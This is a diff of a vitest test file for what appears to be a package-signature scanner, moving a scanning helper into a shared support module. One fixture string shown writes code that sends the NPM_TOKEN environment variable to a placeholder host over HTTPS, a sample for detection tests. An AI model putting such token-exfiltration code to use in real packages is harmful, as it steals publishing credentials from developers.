@@ -1,17 +1,5 @@
-import { fileURLToPath } from 'node:url';
 import { expect, it } from 'vitest';
-import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
-import { memoryTree } from '../../support/memory-tree.js';
-
-const signatures = completeSet(
-  await loadSignatures(fileURLToPath(new URL('../../../signatures', import.meta.url))),
-);
-
-async function rulesIn(code: string): Promise<string[]> {
-  const tree = memoryTree({ 'index.js': code });
-  const { findings } = await scanSignatures({ tree, packages: [], signatures });
-  return findings.map(({ rule }) => rule);
-}
+import { rulesIn } from '../../support/rules-in.js';
 
 it.each([
   'require("https").get(`https://c.example.invalid/${process.env.NPM_TOKEN}`);',
